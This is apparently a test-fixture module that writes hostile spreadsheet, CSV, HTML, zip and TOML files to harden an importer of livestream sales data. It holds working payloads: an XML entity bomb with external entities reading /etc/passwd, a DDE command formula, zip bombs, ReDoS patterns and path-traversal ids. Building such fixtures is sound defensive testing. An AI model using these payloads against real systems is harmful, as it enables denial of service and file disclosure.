"""Files that mean harm: one function each, which writes its file into a folder."""

import io
import struct
import zipfile
from collections.abc import Callable, Mapping
from pathlib import Path

import xlsxwriter

from tests import books

HEADERS = ("主播昵称", "账号ID", "平台", "开播时间", "直播标题", "成交金额")
_ROW = ("子杰", "zijie", "快手", "2026-09-01 20:00:00", "茶", "1234.5")
_MAIN = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
_LAUGHS = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 12))
_BOMB = f'<!DOCTYPE x [<!ENTITY l0 "ha">{_LAUGHS}<!ENTITY f SYSTEM "file:///etc/passwd"><!ENTITY h SYSTEM "http://127.0.0.1:9/x">]>'
_TABLE = "".join(f"<td>{one}</td>" for one in HEADERS)
_CELLS = "".join(f"<td>{one}</td>" for one in _ROW)

Attack = Callable[[Path], Path]


def workbook(path: Path, parts: Mapping[str, Callable[[str], str] | str | bytes]) -> Path:
    """A good workbook of sessions in which some parts are changed or added."""
    plain = io.BytesIO()
    with xlsxwriter.Workbook(plain) as book:
        sheet = book.add_worksheet("直播")
        sheet.write_row(0, 0, HEADERS)
        sheet.write_row(1, 0, _ROW)
    with zipfile.ZipFile(plain) as whole, zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as packed:
        for name in whole.namelist():
            change = parts.get(name, "")
            body = whole.read(name)
            packed.writestr(name, change(body.decode()) if callable(change) else change or body)
        for name in parts.keys() - set(whole.namelist()):
            packed.writestr(name, str(parts[name]) if not isinstance(parts[name], bytes) else parts[name])
    return path


def _after_declaration(text: str, more: str) -> str:
    declaration, _, rest = text.partition("?>")
    return f"{declaration}?>{more}{rest}"


def entities_in_strings(folder: Path) -> Path:
    """Ten to the eleventh laughs, a file of the system and an address, as shared strings."""
    path = folder / "laughs.xlsx"
    return workbook(
        path,
        {"xl/sharedStrings.xml": lambda text: _after_declaration(text, _BOMB).replace(">茶<", ">&l11;&f;&h;<")},
    )


def entities_in_a_sheet(folder: Path) -> Path:
    """The same in a sheet."""
    inline = '<c r="E2" t="inlineStr"><is><t>&l11;&f;&h;</t></is></c>'
    cells = '<c r="E2" t="s"><v>10</v></c>'
    path = folder / "laughs-sheet.xlsx"
    return workbook(
        path, {"xl/worksheets/sheet1.xml": lambda text: _after_declaration(text, _BOMB).replace(cells, inline)}
    )


def entities_in_the_book(folder: Path) -> Path:
    """The same in the list of sheets."""
    path = folder / "laughs-book.xlsx"
    return workbook(path, {"xl/workbook.xml": lambda text: _after_declaration(text, _BOMB).replace("直播", "&l11;&f;")})


def external_links(folder: Path) -> Path:
    """Links to other books, a query and a picture, all on a server."""
    rels = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
    away = f'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="{rels}/externalLinkPath" Target="http://127.0.0.1:9/a.xlsx" TargetMode="External"/></Relationships>'
    link = f'<externalLink xmlns="{_MAIN}" xmlns:r="{rels}"><externalBook r:id="rId1"/></externalLink>'
    connections = f'<connections xmlns="{_MAIN}"><connection id="1" name="x" type="4"><webPr url="http://127.0.0.1:9/"/></connection></connections>'
    parts = {
        "xl/externalLinks/externalLink1.xml": link,
        "xl/externalLinks/_rels/externalLink1.xml.rels": away,
        "xl/connections.xml": connections,
        "xl/worksheets/_rels/sheet1.xml.rels": away,
    }
    return workbook(folder / "links.xlsx", parts)


def formulas(folder: Path) -> Path:
    """Formulas that would call a server or a program if anybody ran them."""
    path = folder / "formulas.xlsx"
    with xlsxwriter.Workbook(path) as book:
        sheet = book.add_worksheet()
        sheet.write_row(0, 0, HEADERS)
        sheet.write_row(1, 0, _ROW)
        sheet.write_formula(1, 4, '=WEBSERVICE("http://127.0.0.1:9/"&A1)', None, "=cmd|'/c calc'!A1")
    return path


def far_cells(folder: Path) -> Path:
    """Two cells in opposite corners of the largest sheet."""
    far = '<row r="1048576"><c r="XFD1048576"><v>1</v></c></row></sheetData>'
    return workbook(folder / "far.xlsx", {"xl/worksheets/sheet1.xml": lambda text: text.replace("</sheetData>", far)})


def far_cells_without_names(folder: Path) -> Path:
    """A million columns whose cells do not say where they are."""
    many = f'<row r="3">{"<c><v>1</v></c>" * 1_000_000}</row></sheetData>'
    path = folder / "wide.xlsx"
    return workbook(path, {"xl/worksheets/sheet1.xml": lambda text: text.replace("</sheetData>", many)})


def rows_without_cells(folder: Path) -> Path:
    """A million rows with nothing in them."""
    many = "<row/>" * 1_000_000 + "</sheetData>"
    path = folder / "tall.xlsx"
    return workbook(path, {"xl/worksheets/sheet1.xml": lambda text: text.replace("</sheetData>", many)})


def merged_everything(folder: Path) -> Path:
    """One cell merged over the whole sheet, a thousand times."""
    merged = "</sheetData><mergeCells>" + '<mergeCell ref="A3:XFD1048576"/>' * 1000 + "</mergeCells>"
    path = folder / "merged.xlsx"
    return workbook(path, {"xl/worksheets/sheet1.xml": lambda text: text.replace("</sheetData>", merged)})


def strings_without_end(folder: Path) -> Path:
    """Three million empty shared strings."""
    path = folder / "strings.xlsx"
    return workbook(
        path, {"xl/sharedStrings.xml": lambda text: text.replace("</sst>", "<si><t/></si>" * 3_000_000 + "</sst>")}
    )


def deep_xml(folder: Path) -> Path:
    """Two hundred thousand elements in one another."""
    deep = "<a>" * 200_000 + "</a>" * 200_000 + "</sheetData>"
    path = folder / "deep.xlsx"
    return workbook(path, {"xl/worksheets/sheet1.xml": lambda text: text.replace("</sheetData>", deep)})


def many_sheets(folder: Path) -> Path:
    """A thousand sheets."""
    path = folder / "sheets.xlsx"
    with xlsxwriter.Workbook(path, {"in_memory": True}) as book:
        for number in range(1000):
            book.add_worksheet(str(number)).write(0, 0, "x")
    return path


def binary_far_cells(folder: Path) -> Path:
    """An xlsb with two cells in opposite corners."""
    rows = {0: dict(enumerate(HEADERS)), 1_048_575: {16_383: 1.5}}
    return books.pack(folder / "far.xlsb", books.binary_parts(rows))


def _open_document(path: Path, more: str = "", times: str = "", rows: int = 1, doctype: str = "") -> Path:
    """An ods of sessions whose last cell, or row, is something else."""
    body = books.open_document_row(HEADERS) + books.open_document_row(_ROW, more, times) * rows
    return books.pack(path, books.open_document_parts(body, doctype))


def repeated_columns(folder: Path) -> Path:
    """A filled cell that says it stands a thousand million times beside itself."""
    cell = '<table:table-cell table:number-columns-repeated="1000000000" office:value-type="string"><text:p>x</text:p></table:table-cell>'
    return _open_document(folder / "columns.ods", cell)


def repeated_numbers(folder: Path) -> Path:
    """A thousand rows, each of which repeats a number ten thousand times."""
    cell = '<table:table-cell table:number-columns-repeated="100000" office:value-type="float" office:value="1"/>'
    return _open_document(folder / "numbers.ods", cell, rows=1000)


def repeated_rows(folder: Path) -> Path:
    """A row that says it stands a thousand million times below itself."""
    return _open_document(folder / "rows.ods", times='table:number-rows-repeated="1000000000"')


def entities_in_open_document(folder: Path) -> Path:
    """Laughs in an ods."""
    cell = '<table:table-cell office:value-type="string"><text:p>&l11;&f;&h;</text:p></table:table-cell>'
    return _open_document(folder / "laughs.ods", cell, doctype=_BOMB)


def wide_page(folder: Path) -> Path:
    """A page of which every cell spans a thousand columns."""
    path = folder / "wide.html"
    path.write_text(f"<table><tr>{_TABLE}</tr>{('<tr>' + '<td colspan=1000>x' * 1000) * 300}</table>", encoding="utf-8")
    return path


def tall_page(folder: Path) -> Path:
    """A page of which every cell spans a thousand rows and columns."""
    path = folder / "tall.html"
    text = f"<table><tr>{_TABLE}</tr>{('<tr>' + '<td colspan=1000 rowspan=1000>x' * 30 + '</tr>') * 3000}</table>"
    path.write_text(text, encoding="utf-8")
    return path


def deep_page(folder: Path) -> Path:
    """Tables in tables in tables."""
    path = folder / "deep.html"
    path.write_text("<table><tr><td>" * 100_000, encoding="utf-8")
    return path


def _page(name: str, text: str) -> Attack:
    def write(folder: Path) -> Path:
        path = folder / name
        path.write_text(f"<table><tr>{_TABLE}</tr><tr>{_CELLS}</tr></table>{text}", encoding="utf-8")
        return path

    write.__name__ = name.removesuffix(".html")
    return write


def active_page(folder: Path) -> Path:
    """A page with a script, pictures and frames on a server, and entities."""
    path = folder / "active.html"
    path.write_text(
        f"<?xml version='1.0'?>{_BOMB}<html><script src=http://127.0.0.1:9/></script><img src=http://127.0.0.1:9/ onerror=x>"
        f"<iframe src=file:///etc/passwd></iframe><table><tr>{_TABLE}</tr><tr>{_CELLS}</tr></table></html>",
        encoding="utf-8",
    )
    return path


def _text(name: str, body: bytes) -> Attack:
    def write(folder: Path) -> Path:
        path = folder / name
        path.write_bytes(body)
        return path

    write.__name__ = name.removesuffix(".csv")
    return write


_HEAD = (",".join(HEADERS) + "\n" + ",".join(_ROW) + "\n").encode()


def overlapping(folder: Path) -> Path:
    """A zip whose two thousand members are one and the same megabyte."""
    path = folder / "overlapping.zip"
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as packed:
        packed.writestr("a0000.csv", b"x" * (1 << 20))
        (first,) = packed.infolist()
        for number in range(1, 2000):
            twin = zipfile.ZipInfo(f"a{number:04}.csv")
            for name in ("compress_type", "CRC", "compress_size", "file_size", "header_offset", "flag_bits"):
                setattr(twin, name, getattr(first, name))
            packed.filelist.append(twin)
            packed.NameToInfo[twin.filename] = twin
        packed._didModify = True
    return path


def nested(folder: Path) -> Path:
    """Six zips in one another, sixteen in each of the outer ones, with a hundred megabytes in the innermost."""
    body = _zip_of({"a.csv": b"0" * (100 << 20)})
    for _ in range(4):
        body = _zip_of({f"{number}.zip": body for number in range(16)})
    path = folder / "nested.zip"
    path.write_bytes(body)
    return path


def two_deep(folder: Path) -> Path:
    """Thirty zips in a zip, of which each unpacks to a hundred megabytes: three gigabytes where one may be."""
    inner = _zip_of({"a.csv": b"0" * (100 << 20)})
    path = folder / "two-deep.zip"
    path.write_bytes(_zip_of({f"{number}.zip": inner for number in range(30)}))
    return path


def lying_size(folder: Path) -> Path:
    """A member that unpacks to far more than it says."""
    body = bytearray(_zip_of({"a.csv": b"0" * (50 << 20)}))
    for mark, place in ((b"PK\x01\x02", 24), (b"PK\x03\x04", 22)):
        at = body.index(mark) + place
        body[at : at + 4] = struct.pack("<I", 100)
    path = folder / "lying.zip"
    path.write_bytes(body)
    return path


def _zip_of(members: Mapping[str, bytes]) -> bytes:
    packed = io.BytesIO()
    with zipfile.ZipFile(packed, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, body in members.items():
            archive.writestr(name, body)
    return packed.getvalue()


def _layout(name: str, text: str) -> Attack:
    def write(folder: Path) -> Path:
        path = folder / f"{name}.toml"
        path.write_text(text, encoding="utf-8")
        return path

    write.__name__ = name
    return write


_LAYOUT = 'id = "{id}"\ntitle = "x"\nkind = "sessions"\n{more}\n[columns]\ncreator = ["主播昵称"]\nstarted_at = ["开播时间"]\n'

ATTACKS: tuple[Attack, ...] = (
    entities_in_strings, entities_in_a_sheet, entities_in_the_book, external_links, formulas, far_cells,
    far_cells_without_names, rows_without_cells, merged_everything, strings_without_end, deep_xml, many_sheets,
    binary_far_cells, repeated_columns, repeated_numbers, repeated_rows, entities_in_open_document, wide_page, tall_page,
    deep_page, active_page, overlapping, nested, two_deep, lying_size,
    _page("brackets.html", "<" * 300_000),
    _page("comments.html", "<!--" * 100_000),
    _page("declarations.html", "<!a" * 100_000),
    _page("sections.html", "<![CDATA[" * 100_000),
    _page("questions.html", "<?" * 150_000),
    _page("attributes.html", "<a " + "b " * 200_000),
    _page("quotes.html", "<a b='" * 60_000),
    _page("entities.html", "&" * 300_000),
    _page("script.html", "<script>" + "</scrip" * 60_000),
    _text("columns.csv", _HEAD + b"," * 3_000_000 + b"\n"),
    _text("lines.csv", _HEAD + b"\n" * 3_000_000),
    _text("gaps.csv", _HEAD + b",,,,,\n" * 500_000),
    _text("field.csv", _HEAD + b'"' + b"x" * 30_000_000),
    _text("link.csv", _HEAD + '子杰,zijie,快手,2026-09-02 20:00:00,"=HYPERLINK(""'.encode() + b'"",""' * 20_000 + b'",1\n'),
    _text("number.csv", _HEAD + "子杰,zijie,快手,2026-09-02 20:00:00,茶,".encode() + b"9" * 100_000 + b"\n"),
    _text("power.csv", _HEAD + "子杰,zijie,快手,2026-09-02 20:00:00,茶,1e99999999\n".encode()),
    _text("time.csv", _HEAD + "子杰,zijie,快手,".encode() + b"2026-" * 20_000 + b",x,1\n"),
    _text("spaces.csv", _HEAD + "子杰,zijie,快手,2026-09-02 20:00:00,茶,1".encode() + b" " * 100_000 + b"x\n"),
    _layout("regex-name", _LAYOUT.format(id="evil", more='name_time = "^(a+)+$"')),
    _layout("regex-sheet", _LAYOUT.format(id="evil", more='sheet_creator = "^(.*.*)*x$"\nsheet = "(a|aa)+$"')),
    _layout("regex-huge", _LAYOUT.format(id="evil", more='sheet = "a{99999999999999999999}"')),
    _layout("regex-deep", _LAYOUT.format(id="evil", more=f'sheet = "{"(" * 5000}a{")" * 5000}"')),
    _layout("path", _LAYOUT.format(id="../../evil", more="")),
    _layout("absolute", _LAYOUT.format(id="/evil", more="")),
    _layout("device", _LAYOUT.format(id="CON", more="")),
    _layout("deep", _LAYOUT.format(id="evil", more=f"x = {'[' * 100_000}{']' * 100_000}")),
    _layout("huge", _LAYOUT.format(id="evil", more="note = '" + "x" * 10_000_000 + "'")),
    _layout("long-id", _LAYOUT.format(id="e" * 5000, more="")),
    _layout("types", _LAYOUT.format(id="evil", more='required = 5\nplatform = ["a"]\nmarks = [1, 2]\ntemplate = "yes"')),
    _layout("title", 'id = "evil"\ntitle = 5\nkind = "sessions"\n[columns]\ncreator = ["主播昵称"]\n'),
)  # fmt: skip
"""Every attack."""
